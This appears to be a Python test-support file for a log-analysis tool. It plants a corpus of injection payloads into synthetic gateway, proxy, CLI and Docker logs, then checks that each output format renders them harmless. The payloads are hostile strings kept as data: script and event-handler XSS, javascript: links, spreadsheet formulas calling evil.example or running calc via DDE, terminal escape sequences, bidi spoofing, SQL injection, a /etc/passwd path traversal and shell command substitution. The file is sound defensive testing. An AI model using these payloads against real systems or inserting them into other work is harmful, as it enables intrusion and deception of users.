"""A corpus of injections, logs that carry them in every place a stranger can write to, and every output that must survive them.

A new command or form joins at `OUTPUTS`; forms of reports join by themselves. What an output is held to follows from its file's ending.
"""

from __future__ import annotations

import csv
import html.parser
import io
import json
import re
from pathlib import Path
from xml.etree import ElementTree

from markdown_it import MarkdownIt

from occorr.report import library

FIRE = "document.title='fired'"
PAYLOADS = {
    "script": f"</script><script>{FIRE}</script>",
    "style": f"</style><style>@import 'https://evil.example/x.css'</style><svg/onload={FIRE}>",
    "image": f'<img src=https://evil.example/x.png onerror="{FIRE}">',
    "attribute": f'\'"><a href="javascript:{FIRE}" autofocus onfocus={FIRE}>x</a>',
    "comment": f"--><!-- ]]> <![CDATA[ <iframe srcdoc='<script>{FIRE}</script>'>",
    "title": f"</title></textarea></template></noscript><script>{FIRE}</script>",
    "entities": "&lt;b&gt; &#60;script&#62; &amp;copy; &",
    "braces": "{{ 7*7 }} {% raw %}{% endraw %} ${7*7} #{7*7} <%= 7*7 %> {0} %(x)s {{constructor.constructor('x')()}}",
    "colour": "\x1b[31;5mred\x1b[0m \x1b[2J\x1b[H \x9b31mc1",
    "title-osc": "\x1b]0;owned\x07 \x1b]52;c;ZXZpbA==\x07 \x1bP1$r\x1b\\",
    "link-osc": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200f\ufeff\u2028\u2029",
    "rich": "[bold red on white]x[/] [link=https://evil.example]y[/link] :skull:",
    "md-link": "[x](javascript:alert(1)) ![i](https://evil.example/i.png) <https://evil.example> https://evil.example [a]: https://evil.example",
    "md-block": "| a | b |\t# head > quote ```` ``` ` * _ ~~ @everyone #1 <details> $$x$$ \\",
    "mermaid": '"]; click A "javascript:alert(1)" %%{init: {}}%% :::x ; end',
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "json": '"}],"close_id":"x","__proto__":{"x":1} \\u0000 \\',
    "csv": 'a","b\r\nc;d',
    "names": "__proto__ constructor toString hasOwnProperty",
    "nul": "a\x00b\x7fc",
    "sql": "'; DROP TABLE closes; --",
    "path": "../../../../etc/passwd",
    "shell": "$(touch fired) `touch fired`; touch fired",
}
NAMING = (
    "script",
    "image",
    "colour",
    "bidi",
    "rich",
    "md-link",
    "formula",
    "csv",
    "braces",
    "shell",
)  # a file is named after each of these


def logs(folder: Path) -> Path:
    """Logs of a gateway, a proxy, a CLI and an engine that hold each payload wherever their writers put what strangers send."""
    gateway, structured, access, cli, engine = [], [], [], [], []
    for n, text in enumerate(PAYLOADS.values()):
        one = re.sub(r"[\r\n\x00]", " ", text)  # a text log has one line a record, and a NUL makes a file binary
        word = re.sub(r"\s", "_", one) or "x"
        at = f"2026-11-21T05:{n // 60:02d}:{n % 60:02d}"
        conn = f"{n:08x}-77ab-4d68-9b48-62d412b765e5"
        gateway.append(
            f"{at}.100Z [ws] closed before connect conn={conn} peer=192.0.2.7:{50000 + n}->192.0.2.2:18789 remote=192.0.2.7 fwd={word} origin={word} host={word} ua={one} code=1008 reason={one} phase=ws_upgrade_started"
        )
        fields = {
            "cause": text,
            "durationMs": 3,
            "handshake": "pending",
            "phase": "ws_upgrade_started",
            "host": text,
            "origin": text,
            "userAgent": text,
            "client": text,
            "mode": text,
            "version": text,
            "authReason": text,
            "remoteAddr": "192.0.2.8",
            "remotePort": 42064 + n,
        }
        said = f"closed before connect conn={conn.replace('-77ab-', '-88ab-')} peer=192.0.2.8:{42064 + n}->192.0.2.2:18789 remote=192.0.2.8 fwd=n/a origin={word} host=x ua={one} code=1008 reason={one} phase=ws_upgrade_started"
        names = {
            "hostname": text,
            "date": f"{at.replace('T05', 'T06')}.200Z",
            "logLevelId": 4,
            "logLevelName": "WARN",
            "name": '{"subsystem":"gateway/ws"}',
            "parentNames": ["openclaw"],
            "runtime": "node",
            "runtimeVersion": "24.21.0",
        }
        structured.append(
            json.dumps(
                {
                    "0": '{"subsystem":"gateway/ws"}',
                    "1": fields,
                    "2": said,
                    "_meta": names,
                    "time": f"{at.replace('T05', 'T06')}.200+00:00",
                    "hostname": text,
                    "message": said,
                },
                separators=(",", ":"),
                ensure_ascii=False,
            )
        )
        access.append(
            f'192.0.2.9 - {one.replace(chr(34), "") or "-"} [21/Nov/2026:07:{n // 60:02d}:{n % 60:02d} +0000] "GET /{one.replace(chr(34), "%22")} HTTP/1.1" 502 150 "{one.replace(chr(34), "%22")}" "{one.replace(chr(34), "%22")}"'
        )
        cli.append(f"gateway connect failed: Error: gateway closed (1006): {one}")
        name = re.sub(r"[\x00-\x1f]", " ", text)
        for k, action in enumerate(("create", "start", "oom", "die")):
            attributes = {
                "image": text,
                "name": name,
                "com.docker.compose.project": text,
                "com.docker.compose.service": text,
                "exitCode": "137",
            }
            engine.append(
                json.dumps(
                    {
                        "status": action,
                        "id": f"{n:064x}",
                        "Type": "container",
                        "Action": action,
                        "Actor": {"ID": f"{n:064x}", "Attributes": attributes},
                        "scope": "local",
                        "time": 1795248000 + n,
                        "timeNano": (1795248000 + n) * 10**9 + k * 10**6,
                    }
                )
            )
    folder.mkdir(parents=True, exist_ok=True)
    for file, lines in (
        ("gateway.log", gateway),
        ("gateway.file.log", structured),
        ("access.log", access),
        ("cli.out", cli),
        ("docker.events.jsonl", engine),
    ):
        (folder / file).write_bytes(("\n".join(lines) + "\n").encode())
    inspected = [
        {
            "Id": f"{n:064x}",
            "Name": f"/{text}",
            "Image": "sha256:" + "a" * 64,
            "Config": {
                "Image": text,
                "Hostname": text,
                "Env": [f"OPENCLAW_VERSION={text}", f"TZ={text}"],
                "Labels": {"com.docker.compose.project": text, "com.docker.compose.service": text},
            },
            "State": {"Status": text, "StartedAt": text, "FinishedAt": text, "OOMKilled": True},
            "NetworkSettings": {"Networks": {text: {"IPAddress": text}}},
        }
        for n, text in enumerate(PAYLOADS.values())
    ]
    (folder / "docker.inspect.json").write_text(json.dumps(inspected, indent=1), encoding="utf-8")
    # Names of files are a stranger's too: an attachment, a downloaded bundle.
    for n, (kind, text) in enumerate(PAYLOADS.items()):
        if kind not in NAMING:
            continue
        name = text.replace("/", "∕").replace("\x00", "")[:80]
        (folder / f"{name}.log").write_bytes((gateway[n].replace("-77ab-", "-99ab-") + "\n").encode())
    return folder


# name → (command line, ending of what it writes). {logs}, {result} (a directory of analyze -o), {close} and {out} are filled in.
OUTPUTS: dict[str, tuple[list[str], str]] = {
    "analyze": (["analyze", "{logs}"], "txt"),
    "analyze ndjson": (["analyze", "{logs}", "--format", "ndjson"], "jsonl"),
    "analyze dry run": (["analyze", "{logs}", "--dry-run"], "txt"),
    "analyze anonymized": (["analyze", "{logs}", "--anonymize", "--format", "json"], "json"),
    "explain": (["explain", "{close}", "{result}"], "txt"),
    "explain anonymized": (["explain", "{close}", "{result}", "--anonymize"], "txt"),
    "query anonymized": (["query", "{result}", "SELECT * FROM timeline", "--anonymize", "--format", "csv"], "csv"),
    "export anonymized": (["export", "{result}", "--to", "timesketch", "--anonymize", "-o", "{out}.jsonl"], "jsonl"),
    "diff anonymized": (["diff", "{result}", "{logs}", "--anonymize", "--format", "md"], "md"),
    "weekly of a time": (["report", "weekly", "{result}", "--since", "2020-01-01", "--until", "2040-01-01"], "md"),
    "query": (["query", "{result}", "SELECT * FROM closes"], "txt"),
    "query csv": (["query", "{result}", "SELECT * FROM timeline", "--format", "csv"], "csv"),
    "query json": (["query", "{result}", "SELECT * FROM evidence", "--format", "json"], "json"),
    "query ndjson": (["query", "{result}", "SELECT * FROM facts", "--format", "ndjson"], "jsonl"),
    "export csv closes": (["export", "{result}", "--to", "csv", "--table", "closes", "-o", "{out}.csv"], "csv"),
    "export csv timeline": (["export", "{result}", "--to", "csv", "--table", "timeline", "-o", "{out}.csv"], "csv"),
    "export csv sources": (["export", "{result}", "--to", "csv", "--table", "sources", "-o", "{out}.csv"], "csv"),
    "export timesketch csv": (["export", "{result}", "--to", "timesketch", "-o", "{out}.csv"], "csv"),
    "export timesketch jsonl": (["export", "{result}", "--to", "timesketch", "-o", "{out}.jsonl"], "jsonl"),
    "export perfetto": (["export", "{result}", "--to", "perfetto", "-o", "{out}.json"], "json"),
    "export otlp": (["export", "{result}", "--to", "otlp", "-o", "{out}.jsonl"], "jsonl"),
    "diff": (["diff", "{result}", "{logs}"], "txt"),
    "diff md": (["diff", "{result}", "{result}", "--format", "md"], "md"),
    "diff json": (["diff", "{result}", "{result}", "--format", "json"], "json"),
    "check": (["check", "{result}"], "txt"),
    "check json": (["check", "{result}", "--format", "json"], "json"),
    "check junit": (["check", "{result}", "--junit", "{out}.xml"], "xml"),
    "formats test": (["formats", "test", "{logs}/gateway.log"], "txt"),
} | {
    f"report {report.name}.{form}": (["report", report.name, "{result}", "-o", "{out}." + form], form)
    for report in library.reports().values()
    for form in report.makers
    if form != "parquet"
}  # fmt: skip

# Everything that moves a cursor, hides or reorders text; a line break may stand.
UNSEEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")


def faults(form: str, text: str) -> list[str]:
    """What is wrong with an output of a form: an injection that a reader of it would execute, follow or be fooled by."""
    found = [
        f"{form}: raw {m[0]!r} in {text[max(0, m.start() - 40) : m.end() + 20]!r}"
        for m in UNSEEN.finditer(text if form != "csv" else text.replace("\r\n", "\n"))
    ][:3]
    return found + {
        "txt": _terminal,
        "md": _markdown,
        "json": _json,
        "jsonl": _json_lines,
        "html": _html,
        "csv": _csv,
        "xml": _xml,
    }.get(form, lambda _: [f"nobody says what a {form} file is held to; add it in {__name__}"])(text)


def _terminal(text: str) -> list[str]:
    return ["a template was filled in"] if re.search(r"\b49\b.*\b49\b", text) else []


def _markdown(text: str) -> list[str]:
    """As a CommonMark renderer with tables sees it, and GitHub's bare links and mentions in what is no code: none may come from a log."""
    tokens = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(text)
    flat = [t for token in tokens for t in (token, *(token.children or ()))]
    bad = [
        t
        for t in flat
        if t.type in {"html_inline", "html_block", "image"}
        or (t.type == "link_open" and not str(t.attrs.get("href", "")).startswith("#"))
    ]
    found = [
        f"{t.type}: {t.content or t.attrs}"[:200]
        for t in bad
        if not re.fullmatch(r"</?(?:details|summary)>\s*", t.content)
    ]
    prose = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", text)
    return (found + [f"followed: {m[0]!r}" for m in re.finditer(r"https?://\S*|\bwww\.\S*|(?<![\\\w])@\w+", prose)])[:5]


def _json(text: str) -> list[str]:
    json.loads(text)
    return []


def _json_lines(text: str) -> list[str]:
    return [fault for line in text.splitlines() for fault in _json(line)]


def _csv(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text)))
    ragged = [
        f"row {n} has {len(row)} cells and not {len(rows[0])}" for n, row in enumerate(rows) if len(row) != len(rows[0])
    ]
    number = re.compile(r"[+-]?\d[\d.]*(?:e[+-]?\d+)?%?$", re.IGNORECASE)
    return (
        ragged
        + [
            f"a formula: {cell!r}"
            for row in rows
            for cell in row
            if cell[:1] in "=+-@\t\r" and cell and not number.match(cell)
        ]
    )[:5]


def _xml(text: str) -> list[str]:
    ElementTree.fromstring(text)
    return []


class _Markup(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"iframe", "object", "embed", "base", "form", "img", "video", "audio"} and not (
            tag == "form" and ("method", "dialog") in attrs or tag == "form" and ("role", "search") in attrs
        ):
            self.bad.append(f"<{tag}> {attrs}")
        for name, value in attrs:
            if name.startswith("on") or (
                name in {"href", "src", "action", "srcdoc", "xlink:href"}
                and not (value or "").startswith(("#", "data:,"))
            ):
                self.bad.append(f"<{tag} {name}={value!r}>")


def _html(text: str) -> list[str]:
    """What stands in the markup; that nothing fires while the page is used, the browser tells (test_hostile_browser.py)."""
    parser = _Markup()
    parser.feed(text)
    scripts = re.findall(r"<script(?![^>]*text/plain)[^>]*>", text)
    outside = re.sub(r"<script.*?</script>|<style.*?</style>", "", text, flags=re.DOTALL)
    return (
        parser.bad[:5]
        + ([f"{len(scripts)} scripts"] if len(scripts) > 1 else [])
        + (["a template was filled in"] if re.search(r"\b49 \$?49\b", outside) else [])
    )
